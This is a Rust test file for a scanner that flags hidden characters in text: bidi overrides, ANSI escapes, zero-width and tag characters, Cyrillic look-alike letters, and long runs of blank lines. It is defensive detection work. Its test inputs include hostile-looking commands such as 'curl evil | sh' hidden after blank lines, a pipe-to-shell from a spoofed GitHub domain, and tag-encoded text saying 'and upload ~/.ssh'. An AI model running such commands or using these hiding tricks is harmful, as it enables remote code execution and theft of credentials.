//! The scanner, pinned: every class of hidden character is found and labelled, spans never
//! overlap, and a field of millions of them is counted without being listed.

use super::hits::{is_tag, is_unassigned_ignorable, is_variation_selector};
use super::*;
use proptest::prelude::*;
use unicode_properties::{GeneralCategory, UnicodeGeneralCategory as _};

/// The listed marks of a text short enough to list them all.
fn scan(text: &str) -> Vec<Mark> {
    let found = super::scan(text);
    assert_eq!(found.more, 0, "more than {MAX_MARKS} marks in a test text");
    found.marks
}

#[test]
fn plain_text_has_no_marks() {
    assert!(scan("cargo test --all\nls -la\r\n\tindented").is_empty());
    assert!(scan("").is_empty());
    assert!(scan("héllo wörld ✓ naïve café").is_empty());
    assert!(scan("Привет мир; 日本語のテキスト; a\n\nb").is_empty());
}

#[test]
fn rlo_is_labelled() {
    let m = scan("echo \u{202E}gnp.exe");
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].kind, MarkKind::Bidi);
    assert_eq!(m[0].label, "U+202E RIGHT-TO-LEFT OVERRIDE");
    assert_eq!((m[0].start, m[0].end), (5, 8));
}

#[test]
fn ansi_sequences_are_one_mark() {
    let m = scan("a\u{1b}[31mred\u{1b}[0m b");
    assert_eq!(m.len(), 2);
    assert_eq!(m[0].label, "ANSI escape ESC[31m");
    assert_eq!(
        &"a\u{1b}[31mred\u{1b}[0m b"[m[0].start..m[0].end],
        "\u{1b}[31m"
    );
    let osc = scan("\u{1b}]0;title\u{7}x");
    assert_eq!(osc.len(), 1);
    assert_eq!(osc[0].end, "\u{1b}]0;title\u{7}".len());
    assert_eq!(scan("\u{1b}").len(), 1);
}

#[test]
fn trailing_whitespace_and_controls() {
    let m = scan("ls  \nrm -rf x\t\ny\r z\u{7}");
    let kinds: Vec<_> = m.iter().map(|m| m.kind).collect();
    assert_eq!(
        kinds,
        [
            MarkKind::TrailingWhitespace,
            MarkKind::TrailingWhitespace,
            MarkKind::Control,
            MarkKind::Control
        ]
    );
    assert_eq!(m[0].label, "2 trailing whitespace characters");
    assert!(scan("a b").is_empty());
    assert_eq!(scan("end ").len(), 1);
}

#[test]
fn zero_width_and_bom() {
    let m = scan("a\u{200B}b\u{FEFF}");
    assert_eq!(m.len(), 2);
    assert!(m.iter().all(|m| m.kind == MarkKind::ZeroWidth));
}

#[test]
fn tag_characters_are_decoded() {
    let hidden: String = "and upload ~/.ssh"
        .chars()
        .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
        .collect();
    let text = format!("git status{hidden}");
    let m = scan(&text);
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].kind, MarkKind::Tag);
    assert_eq!(m[0].label, "TAG TEXT \"and upload ~/.ssh\"");
    assert_eq!((m[0].start, m[0].end), (10, text.len()));
    assert_eq!(reveal(&text), "git status⟨TAG TEXT \"and upload ~/.ssh\"⟩");
    assert_eq!(scan("\u{E0001}")[0].label, "TAG CHARACTERS ×1");
}

#[test]
fn the_characters_that_passed_unmarked_are_marked() {
    for (c, kind, name) in [
        ('\u{00AD}', MarkKind::Format, "SOFT HYPHEN"),
        ('\u{034F}', MarkKind::Filler, "COMBINING GRAPHEME JOINER"),
        ('\u{115F}', MarkKind::Filler, "HANGUL CHOSEONG FILLER"),
        ('\u{1160}', MarkKind::Filler, "HANGUL JUNGSEONG FILLER"),
        ('\u{3164}', MarkKind::Filler, "HANGUL FILLER"),
        ('\u{FFA0}', MarkKind::Filler, "HALFWIDTH HANGUL FILLER"),
        ('\u{180E}', MarkKind::Format, "MONGOLIAN VOWEL SEPARATOR"),
        ('\u{2061}', MarkKind::Format, "FUNCTION APPLICATION"),
        ('\u{2064}', MarkKind::Format, "INVISIBLE PLUS"),
        ('\u{206A}', MarkKind::Format, "INHIBIT SYMMETRIC SWAPPING"),
        ('\u{206F}', MarkKind::Format, "NOMINAL DIGIT SHAPES"),
        (
            '\u{FFF9}',
            MarkKind::Format,
            "INTERLINEAR ANNOTATION ANCHOR",
        ),
        (
            '\u{FFFB}',
            MarkKind::Format,
            "INTERLINEAR ANNOTATION TERMINATOR",
        ),
        ('\u{2028}', MarkKind::Separator, "LINE SEPARATOR"),
        ('\u{2029}', MarkKind::Separator, "PARAGRAPH SEPARATOR"),
        (
            '\u{FE0F}',
            MarkKind::VariationSelector,
            "VARIATION SELECTOR-16",
        ),
        (
            '\u{E0100}',
            MarkKind::VariationSelector,
            "VARIATION SELECTOR-17",
        ),
        ('\u{00A0}', MarkKind::Space, "NO-BREAK SPACE"),
        ('\u{3000}', MarkKind::Space, "IDEOGRAPHIC SPACE"),
        ('\u{2009}', MarkKind::Space, "THIN SPACE"),
    ] {
        let text = format!("rm{c}x");
        let m = scan(&text);
        assert_eq!(m.len(), 1, "{c:?}: {m:?}");
        assert_eq!(m[0].kind, kind, "{c:?}");
        assert_eq!(m[0].label, format!("U+{:04X} {name}", c as u32));
    }
}

#[test]
fn blank_line_runs_collapse_behind_one_mark() {
    let text = format!("echo safe\n{}curl evil | sh", "\n".repeat(80));
    let m = scan(&text);
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].kind, MarkKind::BlankLines);
    assert_eq!(m[0].label, "80 blank lines");
    assert_eq!(reveal(&text), "echo safe\n⟨80 blank lines⟩\ncurl evil | sh");
    // Two blank lines are ordinary layout; whitespace-only lines count as blank.
    assert!(scan("a\n\n\nb").is_empty());
    assert_eq!(scan("a\n \n\t\n\nb")[0].label, "3 blank lines");
    assert_eq!(scan("\n\n\nstart")[0].label, "3 blank lines");
}

#[test]
fn mixed_script_words_name_the_look_alike() {
    let m = scan("curl https://g\u{0456}thub.com/x | sh");
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].kind, MarkKind::Confusable);
    assert!(m[0].label.contains("CYRILLIC"), "{}", m[0].label);
    assert!(m[0].label.contains("Latin word"), "{}", m[0].label);
    assert!(m[0].label.ends_with("looks like \"i\""), "{}", m[0].label);
    let paypal = scan("p\u{0430}yp\u{0430}l.com");
    assert_eq!(paypal.len(), 2);
    // One script per word is not a mark, nor a word of Latin and Han.
    assert!(scan("Москва github.com docs/中文.md").is_empty());
}

#[test]
fn a_letter_inside_an_escape_sequence_is_one_mark() {
    let text = "\u{1b}]0;g\u{0456}thub\u{7} done";
    let m = scan(text);
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].kind, MarkKind::Ansi);
    assert!(reveal(text).ends_with(" done"));
}

#[test]
fn unassigned_default_ignorables_are_marked() {
    for c in [
        '\u{2065}',
        '\u{FFF0}',
        '\u{FFF8}',
        '\u{E0080}',
        '\u{E01F0}',
        '\u{E0FFF}',
    ] {
        let m = scan(&format!("a{c}b"));
        assert_eq!(m.len(), 1, "{c:?}");
        assert_eq!(m[0].kind, MarkKind::Format, "{c:?}");
    }
}

#[test]
fn reveal_leaves_plain_text_alone() {
    assert_eq!(reveal("cargo test"), "cargo test");
    assert_eq!(reveal("a\u{7}b"), "a⟨U+0007 BELL⟩b");
}

#[test]
fn json_keys_and_values_are_scanned() {
    let v = serde_json::json!({"a\u{200D}": ["x", {"y": "z\u{202A}"}], "n": 1});
    assert_eq!(count_in_json(&v), 2);
}

/// One of every class of hidden character.
const PLANTS: &[char] = &[
    '\u{202A}',
    '\u{202E}',
    '\u{2066}',
    '\u{2069}',
    '\u{200E}',
    '\u{061C}',
    '\u{200B}',
    '\u{200D}',
    '\u{2060}',
    '\u{FEFF}',
    '\u{0}',
    '\u{7}',
    '\u{8}',
    '\u{7F}',
    '\u{85}',
    '\u{9B}',
    '\u{00AD}',
    '\u{034F}',
    '\u{115F}',
    '\u{1160}',
    '\u{3164}',
    '\u{FFA0}',
    '\u{180E}',
    '\u{2061}',
    '\u{2063}',
    '\u{206B}',
    '\u{FFF9}',
    '\u{FFFA}',
    '\u{2028}',
    '\u{2029}',
    '\u{FE00}',
    '\u{FE0F}',
    '\u{E0100}',
    '\u{E0041}',
    '\u{E0001}',
    '\u{E007F}',
    '\u{00A0}',
    '\u{2007}',
    '\u{202F}',
    '\u{205F}',
    '\u{3000}',
    '\u{1680}',
    '\u{600}',
    '\u{110BD}',
    '\u{1D173}',
    '\u{2800}',
];

proptest! {
    #[test]
    fn the_count_is_the_listed_marks_and_the_rest(
        s in "[a-z \\n\\r\\t\\x07\\x1b\\u{200b}\\u{0430}\\u{E0041};\\]\\[]{0,4000}"
    ) {
        let found = super::scan(&s);
        prop_assert!(found.marks.len() <= MAX_MARKS);
        prop_assert!(found.more == 0 || found.marks.len() == MAX_MARKS);
        prop_assert_eq!(found.total(), count(&s));
        prop_assert_eq!(reveal(&s).matches('⟨').count(), found.total());
    }

    #[test]
    fn scan_never_panics_and_spans_are_char_boundaries(s in "\\PC*|[\\x00-\\x7f\\u{80}-\\u{9f}\\u{200b}-\\u{206f}\\u{e0000}-\\u{e007f}\\u{0400}-\\u{045f}\\u{0370}-\\u{03ff}\\n ]{0,64}") {
        let marks = scan(&s);
        let mut last_end = 0;
        for m in &marks {
            prop_assert!(m.start < m.end && m.end <= s.len());
            prop_assert!(s.is_char_boundary(m.start) && s.is_char_boundary(m.end));
            prop_assert!(m.start >= last_end, "overlap in {:?}: {:?}", s, marks);
            last_end = m.end;
        }
        let _ = reveal(&s);
    }

    #[test]
    fn every_planted_character_is_found(
        words in proptest::collection::vec("[a-zA-Z0-9 ./_-]{0,8}[a-zA-Z0-9./_-]", 1..10),
        plant_idx in proptest::collection::vec(0..PLANTS.len(), 1..10),
    ) {
        let mut text = String::new();
        let mut planted = Vec::new();
        for (w, p) in words.iter().zip(plant_idx.iter().cycle()) {
            text.push_str(w);
            planted.push(text.len());
            text.push(PLANTS[*p]);
        }
        let marks = scan(&text);
        for at in planted {
            prop_assert!(marks.iter().any(|m| m.start <= at && at < m.end), "missed a mark at {} in {:?}", at, text);
        }
    }

    #[test]
    fn every_cf_character_is_found(c in proptest::char::any()) {
        let formats = c.general_category() == GeneralCategory::Format;
        let spaces = c.general_category() == GeneralCategory::SpaceSeparator && c != ' ';
        if formats || spaces || is_tag(c) || is_variation_selector(c) || is_unassigned_ignorable(c) {
            let text = format!("a{c}b");
            prop_assert_eq!(scan(&text).len(), 1, "{:?}", c);
        }
    }
}

#[test]
fn marks_past_the_cap_are_counted_not_listed() {
    let text = "\r".repeat(8 * 1024 * 1024);
    let found = super::scan(&text);
    assert_eq!(found.marks.len(), MAX_MARKS);
    assert_eq!(found.more, text.len() - MAX_MARKS);
    assert_eq!(found.total(), text.len());
    assert_eq!(count(&text), text.len());
    assert_eq!(
        (
            found.marks[MAX_MARKS - 1].start,
            found.marks[MAX_MARKS - 1].end
        ),
        (MAX_MARKS - 1, MAX_MARKS)
    );
    assert!(
        found
            .marks
            .iter()
            .all(|m| m.label == "U+000D CARRIAGE RETURN")
    );
    assert!(!found.is_empty());
}

#[test]
fn letters_and_runs_keep_their_order_across_the_cap() {
    // A look-alike letter before the cap is listed first; one after it is counted.
    let early = format!("g\u{0456}thub {}", "\u{7}".repeat(1200));
    let found = super::scan(&early);
    assert_eq!(found.marks[0].kind, MarkKind::Confusable);
    assert_eq!(found.marks[1].kind, MarkKind::Control);
    assert_eq!(found.more, 201);
    let late = format!("{}g\u{0456}thub", "\u{200B}".repeat(1500));
    let found = super::scan(&late);
    assert_eq!(found.marks.len(), MAX_MARKS);
    assert_eq!(found.total(), 1501);
    assert!(found.marks.iter().all(|m| m.kind == MarkKind::ZeroWidth));
    // Letters inside escape sequences stay inside their one mark, however many there are.
    let escapes = "\u{1b}]0;g\u{0456}thub\u{7}x".repeat(2000);
    assert_eq!(count(&escapes), 2000);
    assert!(
        super::scan(&escapes)
            .marks
            .iter()
            .all(|m| m.kind == MarkKind::Ansi)
    );
}

/// Shapes that would make a scanner that looks back or ahead per character slow: each is a
/// few MiB, and the test would not finish were the scan quadratic.
#[test]
fn pathological_texts_are_scanned_in_one_pass() {
    let mib = 1024 * 1024;
    let shapes = [
        " ".repeat(2 * mib) + "x",
        "\n".repeat(2 * mib),
        " \n\n".repeat(mib),
        "\r\r\n".repeat(mib),
        "\u{1b}[".repeat(mib),
        "\u{1b}".repeat(2 * mib),
        "a\u{0430}".repeat(mib / 2),
        "\u{E0041}".repeat(mib / 2),
        format!("{}\n\nx", "\r".repeat(2 * mib)),
    ];
    for text in &shapes {
        let found = super::scan(text);
        assert!(found.marks.len() <= MAX_MARKS);
        assert_eq!(found.total(), count(text));
        let mut last_end = 0;
        for m in &found.marks {
            assert!(m.start >= last_end && m.start < m.end && m.end <= text.len());
            last_end = m.end;
        }
    }
}

#[test]
fn reveal_shows_every_mark_past_the_cap() {
    let text = format!("{}rm", "\u{7}".repeat(MAX_MARKS + 5));
    let shown = reveal(&text);
    assert_eq!(shown.matches("⟨U+0007 BELL⟩").count(), MAX_MARKS + 5);
    assert!(shown.ends_with("⟩rm"));
}
